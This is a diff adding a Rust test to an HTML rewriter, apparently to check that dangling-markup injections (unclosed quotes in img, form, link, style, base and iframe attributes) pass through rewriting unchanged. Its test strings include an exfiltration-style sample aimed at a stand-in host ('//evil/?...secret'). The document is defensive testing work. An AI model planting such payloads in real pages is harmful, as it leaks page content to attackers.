@@ -630,6 +630,53 @@ fn invalid_image_candidates_are_reported() {
     assert_eq!(reasons.collect::<Vec<_>>(), [None, invalid, invalid, None]);
 }
 
+/// An injected quote that is not closed makes a URL of the markup after it. Browsers do not request it (Web Platform Tests,
+/// `fetch/security/dangling-markup`), so no rewriting may turn it into one that they do.
+#[test]
+fn dangling_markup_stays_as_it_is() {
+    let dangling = [
+        "<img src=\"//evil/?\n<b>secret</b>\">",
+        "<img src='/x?\t<i>'>",
+        "<form action='http:\r<x'></form>",
+        "<link rel=stylesheet href='HTTPS://e\n/<'>",
+        "<style>a{b:url(\"x?\\a <b>\")}</style>",
+        "<iframe srcdoc='<img src=\"x&#10;&lt;b\">'></iframe>",
+        "<base href='http://e/?\n<'>",
+    ];
+    let normalizing = || Rewriter::new().absolute_references(AbsoluteReferences::Normalize);
+    let moved = |form| normalizing().output(form).map("http://h/", "http://i/");
+    let rewriters = Profile::ALL.iter().flat_map(|&profile| {
+        let forms = OutputForm::ALL.iter().map(|&form| moved(form));
+        let all = forms.chain([Rewriter::new(), normalizing()]);
+        all.map(move |rewriter| rewriter.profile(profile))
+    });
+    for rewriter in rewriters {
+        for html in dangling {
+            let document = Document::new(html.as_bytes()).retrieved_from("http://h/d/");
+            let rewritten = rewriter.rewrite(&document);
+            assert_eq!(
+                String::from_utf8_lossy(&rewritten.bytes),
+                html,
+                "{rewriter:?}"
+            );
+        }
+        // Not requested, or without one of both characters.
+        for html in [
+            "<a href='mailto:x\n<y'>",
+            "<img src='x\ny'>",
+            "<img src='x<y'>",
+        ] {
+            let document = Document::new(html.as_bytes()).retrieved_from("http://h/d/");
+            let links = rewriter.rewrite(&document).report.links;
+            let reason = Some(SkipReason::DanglingMarkup);
+            assert!(
+                links.iter().all(|link| link.skip_reason() != reason),
+                "{links:?}"
+            );
+        }
+    }
+}
+
 /// The path of a host alone is a slash (RFC 3986 section 6.2.3), and relative references lead there only with it.
 #[test]
 fn a_directory_moves_to_the_root_of_a_host() {
